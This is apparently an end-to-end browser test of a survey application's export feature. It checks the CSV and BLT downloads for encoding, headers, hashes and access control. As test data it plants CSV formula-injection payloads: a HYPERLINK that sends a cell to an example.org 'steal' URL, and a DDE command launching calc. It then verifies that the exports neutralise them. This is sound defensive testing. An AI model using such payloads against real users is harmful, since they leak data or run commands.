// A staff member downloads every export of the demo survey (filled by `npm run demo`) from its
// exports page in a browser against the real server, and each file is read as a spreadsheet would
// read it: UTF-8 with its accents, a header row, no cell taken for a formula, its hash listed.
import { expect } from 'chai';
import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { parse } from 'csv-parse/sync';
import type { Browser, Locator, Page } from 'playwright-core';
import { DEMO_MEMBER_STATES } from '../../db/seeds/demo-content.js';
import { en } from '../../server/i18n/en.js';
import { exportsCatalogue } from '../../server/i18n/areas/exports.js';
import { closeSessions, launchBrowser, openSession, takeScreenshot, type Session, type SessionOptions } from './helpers/browser.js';
import { clickAndWait, heading, htmlLang, untranslatedKeys } from './helpers/pages.js';
import { answerAsDelegate, DELEGATE, signedInState, STAFF, startDemoServer, SURVEY, type DemoServer } from './helpers/demo.js';
import type { RunningServer } from './helpers/server.js';

const NAMESPACES = [...Object.keys(en), 'voting'];
const QUESTION_COMMENTS = ['=HYPERLINK("https://example.org/steal?d="&A1,"Open")', '-2+3+cmd|\' /C calc\'!A0'];
const GENERAL_COMMENT = '@SUM(1+1) — señalamos la reintegración, ñandú et café';
const FILE_PREFIX = 'ic-2007-17_international-dialogue-on-migration-2008_';
const X = exportsCatalogue.en.exports;

type CsvKind = 'ballots' | 'tally' | 'rounds' | 'pairwise' | 'participation' | 'proposals';
const STAFF_KINDS: readonly CsvKind[] = ['ballots', 'tally', 'rounds', 'pairwise', 'participation', 'proposals'];
const HEADERS: Readonly<Record<CsvKind, readonly string[]>> = {
  ballots: ['iso3', 'member_state', 'question_id', 'question', 'channel', 'revision', 'submitted_at', 'abstained', 'rank_1', 'rank_2', 'rank_3', 'rank_4', 'ranking_key'],
  tally: ['question_id', 'question', 'method', 'seats', 'option', 'label', 'title_en', 'first_preferences', 'final_value', 'place', 'retained', 'retained_order'],
  rounds: ['question_id', 'question', 'method', 'round', 'action', 'option', 'votes', 'outcome'],
  pairwise: ['question_id', 'question', 'option_a', 'option_b', 'ballots_ranking_a_above_b', 'strongest_path_a_to_b', 'condorcet_winner'],
  participation: ['iso3', 'member_state', 'answered', 'submitted_at', 'submitted_by', 'channel', 'revision', 'abstentions'],
  proposals: ['kind', 'question_id', 'question', 'iso3', 'language', 'title', 'text', 'status', 'reason', 'at'],
};
const ANONYMOUS_BALLOTS_HEADER = ['question_id', 'question', 'channel', 'abstained', 'rank_1', 'rank_2', 'rank_3', 'rank_4', 'ranking_key'];
/** What a spreadsheet takes for the start of a formula (OWASP's list). */
const FORMULA_START = /^[=+\-@\t\r]/;
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
const OPTION_NAMES = SURVEY.questions.map((q) => q.options.map((o) => `${o.label} ${o.title.en}`));

interface Options { readonly bom?: boolean; readonly semicolon?: boolean; readonly anonymous?: boolean; readonly question?: number }

interface Downloaded {
  readonly name: string;
  readonly bytes: Buffer;
  readonly text: string;
  readonly sha256: string;
}

const squash = (text: string) => text.replace(/\s+/g, ' ').trim();

describe('Exports journey in a browser', function () {
  let server: RunningServer;
  let browser: Browser;
  let sessions: Session[] = [];
  let staffState: SessionOptions['storageState'];
  let delegateState: SessionOptions['storageState'];
  let demoOutput = '';
  let surveyId = 0;
  let demoBallots = 0;
  /** The survey's question ids in order, as the exports page's question list gives them. */
  let questionIds: number[] = [];
  const positionOf = (id: number) => questionIds.indexOf(id) + 1;
  /** The rows of the ballots export of all questions, to check the BLT files against. */
  let ballotRows: string[][] = [];

  async function open(options: SessionOptions = {}): Promise<Session> {
    const session = await openSession(browser, server.baseUrl, { storageState: staffState, ...options });
    sessions.push(session);
    return session;
  }

  /** Clicks what starts a download and reads the saved file, which must be valid UTF-8. */
  async function download(page: Page, target: Locator): Promise<Downloaded> {
    const started = page.waitForEvent('download');
    await target.click();
    const file = await started;
    const saved = await file.path();
    expect(await file.failure(), `download of ${file.url()}`).to.equal(null);
    const bytes = await readFile(saved);
    // ignoreBOM keeps a byte-order mark in the text, so that its absence is checked too.
    const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes);
    return { name: file.suggestedFilename(), bytes, text, sha256: createHash('sha256').update(bytes).digest('hex') };
  }

  /** The newest export listed on the page, once reloaded. */
  async function newestListed(page: Page): Promise<{ who: string; file: string; rows: string; sha256: string }> {
    await page.reload();
    expect(await heading(page)).to.equal(X.title);
    const cells = (await page.locator('table.data').nth(1).locator('tbody tr').first().locator('td').allInnerTexts()).map(squash);
    const [, who, file, rows, sha256] = cells;
    return { who: who!, file: file!, rows: rows!, sha256: sha256! };
  }

  /** A CSV file as a spreadsheet opens it: header, rows, and none of its cells a formula. */
  function readCsv(got: Downloaded, kind: CsvKind, options: Options): string[][] {
    const question = options.question === undefined ? '' : `_q${positionOf(options.question)}`;
    expect(got.name).to.equal(`${FILE_PREFIX}${kind}${question}.csv`);
    expect(got.bytes.subarray(0, 3).equals(BOM), `${got.name}: starts with a byte-order mark`).to.equal(options.bom ?? false);
    const text = options.bom ? got.text.slice(1) : got.text;
    expect(text.includes('\uFEFF'), `${got.name}: a byte-order mark inside`).to.equal(false);
    const delimiter = options.semicolon ? ';' : ',';
    const header = kind === 'ballots' && options.anonymous ? ANONYMOUS_BALLOTS_HEADER : HEADERS[kind];
    expect(text.split('\r\n')[0], `${got.name}: header line`).to.equal(header.join(delimiter));
    const rows = parse(text, { delimiter, record_delimiter: '\r\n' }) as string[][];
    expect(rows[0], `${got.name}: header`).to.deep.equal([...header]);
    for (const [r, row] of rows.entries()) {
      expect(row, `${got.name}: row ${r + 1} has as many cells as the header`).to.have.length(header.length);
      for (const cell of row) expect(cell, `${got.name}: row ${r + 1}`).to.not.match(FORMULA_START);
    }
    return rows;
  }

  before(async function () {
    let demo: DemoServer;
    [demo, browser] = await Promise.all([startDemoServer(), launchBrowser()]);
    ({ server, output: demoOutput, surveyId } = demo);
    demoBallots = Number(/open, with (\d+) ballots/.exec(demoOutput)?.[1]);
    expect(demoBallots).to.be.greaterThan(0);
    // A delegation the demo left without a ballot answers, with comments that look like formulas.
    await answerAsDelegate(browser, server.baseUrl, surveyId, { perQuestion: QUESTION_COMMENTS, general: GENERAL_COMMENT });
    delegateState = await signedInState(browser, server.baseUrl, DELEGATE);
    staffState = await signedInState(browser, server.baseUrl, STAFF);
  });

  afterEach(async function () {
    await closeSessions(sessions, this.currentTest, 'failed-exports');
    sessions = [];
  });

  after(async function () {
    await browser?.close();
    await server?.stop();
  });

  it('downloads every export offered to staff from the survey\'s exports page, each clean for a spreadsheet and its hash listed', async function () {
    const { page } = await open();
    await page.goto('/admin/surveys');
    // The demo staff member works in French: the switcher brings English back.
    expect(await htmlLang(page)).to.equal('fr');
    await clickAndWait(page, page.locator('header button[value="en"]'));
    expect(await htmlLang(page)).to.equal('en');
    await clickAndWait(page, page.getByRole('link', { name: SURVEY.title.en }));
    await clickAndWait(page, page.getByRole('link', { name: exportsCatalogue.en.links.exports, exact: true }));
    expect(new URL(page.url()).pathname).to.equal(`/surveys/${surveyId}/exports`);
    expect(await heading(page)).to.equal(X.title);
    await takeScreenshot(page, 'exports-01-page');
    expect(await untranslatedKeys(page, NAMESPACES)).to.deep.equal([]);

    // Staff are offered every kind but the audit log, which is for administrators.
    const form = page.locator('form.export-form').first();
    const buttons = form.locator('.export-buttons button');
    expect((await buttons.allInnerTexts()).map(squash)).to.deep.equal(STAFF_KINDS.map((k) => X.kinds[k]));
    // The BLT file asks for its question on a form of its own, which offers single questions only.
    const bltForm = page.locator('form.export-form').nth(1);
    const bltQuestion = bltForm.getByLabel(X.blt.question, { exact: true });
    expect(await bltQuestion.locator('option[value=""]').count()).to.equal(0);
    // Each file's name in the table is a button too (a download is a POST, with the page's CSRF token).
    const links = page.locator('table.data').first().locator('tbody button');
    expect((await links.allInnerTexts()).map(squash)).to.deep.equal([...STAFF_KINDS.map((k) => X.kinds[k]), X.kinds.blt]);
    const question = form.getByLabel(X.question, { exact: true });
    const choices = question.locator('option');
    questionIds = [];
    for (let i = 0; i < await choices.count(); i++) {
      const value = await choices.nth(i).getAttribute('value');
      if (value) questionIds.push(Number(value));
    }
    expect(questionIds).to.have.length(SURVEY.questions.length);

    const eligible = DEMO_MEMBER_STATES.filter((m) => m.status === 'member').length;
    const answered = demoBallots + 1;
    const listed: string[] = [];

    /** Sets the form's options as a person would, then downloads with the button of a kind. */
    async function fromForm(kind: CsvKind | 'blt', options: Options): Promise<Downloaded> {
      if (kind === 'blt') {
        await bltQuestion.selectOption(String(options.question));
        return download(page, bltForm.getByRole('button', { name: X.kinds.blt, exact: true }));
      }
      await form.getByLabel(X.bom).setChecked(options.bom ?? false);
      await form.getByLabel(X.semicolon).setChecked(options.semicolon ?? false);
      await form.getByLabel(X.anonymous).setChecked(options.anonymous ?? false);
      await question.selectOption(options.question === undefined ? '' : String(options.question));
      return download(page, buttons.getByText(X.kinds[kind], { exact: true }));
    }

    /** The file's hash is the newest on the page, with who made it, its kind and (for a CSV file) its number of rows. */
    async function listedFirst(got: Downloaded, kind: CsvKind | 'blt', rows: number | null, options: Options = {}): Promise<void> {
      const { rows: listedRows, ...newest } = await newestListed(page);
      const about = options.question === undefined ? '' : ` (${X.questionShort.replace('{{id}}', String(positionOf(options.question)))})`;
      const made = [options.bom ? X.made.bom : null, options.semicolon ? X.made.semicolon : null, options.anonymous ? X.made.anonymous : null].filter(Boolean).join(' · ');
      expect(newest, got.name).to.deep.equal({ who: STAFF.email, file: `${X.kinds[kind]}${about}${made ? ` ${made}` : ''}`, sha256: got.sha256 });
      if (rows !== null) expect(listedRows, `${got.name}: rows listed`).to.equal(String(rows));
      listed.push(got.sha256);
    }

    function checkCsv(kind: CsvKind, rows: string[][], options: Options): void {
      const data = rows.slice(1);
      const questions = options.question === undefined ? [0, 1] : [positionOf(options.question) - 1];
      switch (kind) {
        case 'ballots': {
          expect(data).to.have.length(answered * questions.length);
          if (options.anonymous) {
            expect(data.flat().join('|')).to.not.contain(DELEGATE.iso3).and.not.contain('Australia');
          } else {
            const aus = data.filter((r) => r[0] === DELEGATE.iso3);
            expect(aus.map((r) => r[1])).to.deep.equal(questions.map(() => 'Australia'));
            expect(aus.map((r) => r[8])).to.deep.equal(questions.map((q) => OPTION_NAMES[q]![0]));
          }
          break;
        }
        case 'tally':
          expect(data.map((r) => r[4])).to.deep.equal(OPTION_NAMES.flat());
          expect(data.filter((r) => r[10] === 'yes')).to.have.length(SURVEY.questions.reduce((sum, q) => sum + q.seats, 0));
          break;
        case 'rounds':
          expect(data.length).to.be.greaterThan(0);
          for (const r of data) expect([...OPTION_NAMES.flat(), '(quota)', '(exhausted)', '(lost to truncation)']).to.include(r[5]);
          break;
        case 'pairwise':
          expect(data).to.have.length(OPTION_NAMES.reduce((sum, names) => sum + names.length * (names.length - 1), 0));
          break;
        case 'participation':
          expect(data).to.have.length(eligible);
          expect(data.filter((r) => r[2] === 'yes')).to.have.length(answered);
          expect(data.find((r) => r[0] === DELEGATE.iso3)?.slice(1, 3)).to.deep.equal(['Australia', 'yes']);
          break;
        case 'proposals': {
          // Proposals in Spanish and French keep their accents; the delegation's comments are not formulas.
          const titles = data.filter((r) => r[0] === 'proposal').map((r) => [r[3], r[4], r[5]]);
          expect(titles).to.deep.include.members([['MEX', 'es', 'Migración laboral temporal y circular'], ['SEN', 'fr', 'Migration et santé']]);
          expect(data.map((r) => r[6])).to.include("L'accès des migrants aux soins de santé et la prise en compte de la santé dans la gestion des migrations.");
          const ours = data.filter((r) => r[0] === 'comment' && r[3] === DELEGATE.iso3).map((r) => r[6]);
          expect(ours).to.have.members([...QUESTION_COMMENTS, GENERAL_COMMENT].map((c) => `'${c}`));
          break;
        }
      }
    }

    // Every kind with the page's defaults: all questions, commas, no byte-order mark.
    for (const kind of STAFF_KINDS) {
      const got = await fromForm(kind, {});
      const rows = readCsv(got, kind, {});
      checkCsv(kind, rows, {});
      await listedFirst(got, kind, rows.length - 1);
      if (kind === 'ballots') ballotRows = rows;
    }

    // The options, alone and together: the byte-order mark, semicolons, ballots without Member States.
    const variants: [CsvKind, Options][] = [
      ['ballots', { bom: true }],
      ['ballots', { semicolon: true }],
      ['ballots', { anonymous: true }],
      ['proposals', { bom: true, semicolon: true }],
      ['ballots', { bom: true, semicolon: true, anonymous: true, question: questionIds[1]! }],
    ];
    for (const [kind, options] of variants) {
      const got = await fromForm(kind, options);
      const rows = readCsv(got, kind, options);
      checkCsv(kind, rows, options);
      await listedFirst(got, kind, rows.length - 1, options);
    }

    // The BLT file holds one question: a request without one (a page edited, an old bookmark) shows the
    // form again with the message beside the field; with a question it downloads.
    await page.evaluate("(() => { const s = document.getElementById('blt-question'); s.required = false; s.add(new Option('', ''), 0); s.value = ''; })()");
    const refused = page.waitForResponse((r) => r.url().includes('/exports/ballots.blt'));
    await clickAndWait(page, bltForm.getByRole('button', { name: X.kinds.blt, exact: true }));
    expect((await refused).status()).to.equal(422);
    expect(await heading(page)).to.equal(X.title);
    expect(await page.locator('#blt-question-error').innerText()).to.equal(exportsCatalogue.en.errors.bltOneQuestion);
    expect(await bltQuestion.getAttribute('aria-invalid')).to.equal('true');
    await takeScreenshot(page, 'exports-02-blt-refused');
    await page.goto(new URL(`/surveys/${surveyId}/exports`, page.url()).href);
    for (const [q, id] of questionIds.entries()) {
      const got = await fromForm('blt', { question: id });
      checkBlt(got, q);
      await listedFirst(got, 'blt', null, { question: id });
    }

    // The table's buttons download the same files with the defaults.
    for (const [i, kind] of [...STAFF_KINDS, 'blt' as const].entries()) {
      const got = await download(page, links.nth(i));
      if (kind === 'blt') {
        checkBlt(got, 0);
        await listedFirst(got, kind, null, { question: questionIds[0]! });
      } else {
        const rows = readCsv(got, kind, {});
        checkCsv(kind, rows, {});
        await listedFirst(got, kind, rows.length - 1);
      }
    }

    // Every hash of this journey is on the page, as far as its list goes.
    const hashes = await page.locator('table.data').nth(1).locator('tbody code').allInnerTexts();
    expect(hashes).to.have.length.greaterThan(0);
    expect(hashes.map((h) => h.trim())).to.deep.equal(listed.slice(-hashes.length).reverse());
    await takeScreenshot(page, 'exports-02-after-downloads');

    // The staff member's own language, French, leaves no text untranslated; it stays saved for the account.
    await clickAndWait(page, page.locator('header button[value="fr"]'));
    expect(new URL(page.url()).pathname).to.equal(`/surveys/${surveyId}/exports`);
    expect(await htmlLang(page)).to.equal('fr');
    expect(await heading(page)).to.equal(exportsCatalogue.fr.exports.title);
    expect((await buttons.allInnerTexts()).map(squash)).to.deep.equal(STAFF_KINDS.map((k) => exportsCatalogue.fr.exports.kinds[k]));
    expect(await bltForm.getByRole('button').innerText()).to.equal(exportsCatalogue.fr.exports.kinds.blt);
    expect(await untranslatedKeys(page, NAMESPACES)).to.deep.equal([]);
    await takeScreenshot(page, 'exports-03-fr');
  });

  function checkBlt(got: Downloaded, q: number): void {
    expect(got.name).to.equal(`${FILE_PREFIX}ballots_q${q + 1}.blt`);
    expect(got.bytes.subarray(0, 3).equals(BOM), `${got.name}: starts with a byte-order mark`).to.equal(false);
    const lines = got.text.split('\n');
    const question = SURVEY.questions[q]!;
    expect(lines[0]).to.equal(`${question.options.length} ${question.seats}`);
    const end = lines.indexOf('0');
    expect(end).to.be.greaterThan(1);
    const rankings = lines.slice(1, end);
    for (const line of rankings) expect(line).to.match(/^[1-9]\d* ([1-9]\d* )+0$/);
    // Every ballot that ranks the question, abstentions left out, and nothing else.
    const ranked = ballotRows.filter((r) => r[2] === String(questionIds[q]) && r[7] === 'no');
    expect(rankings.reduce((sum, line) => sum + Number(line.split(' ')[0]), 0)).to.equal(ranked.length);
    expect(lines.slice(end + 1)).to.deep.equal([
      ...OPTION_NAMES[q]!.map((name) => `"${name}"`),
      `"${SURVEY.title.en} - ${question.title.en}"`,
      '',
    ]);
  }

  it('keeps the exports page and its downloads from a delegate', async function () {
    const { page } = await open({ storageState: delegateState });
    const answer = await page.goto(`/surveys/${surveyId}/exports`);
    expect(answer?.status()).to.equal(403);
    expect(await page.locator('form.export-form').count()).to.equal(0);
    expect((await page.request.get(`/surveys/${surveyId}/exports/ballots.csv`)).status()).to.equal(403);
    expect((await page.request.post(`/surveys/${surveyId}/exports/ballots.csv`, { form: { bom: '1' } })).status()).to.equal(403);
  });
});
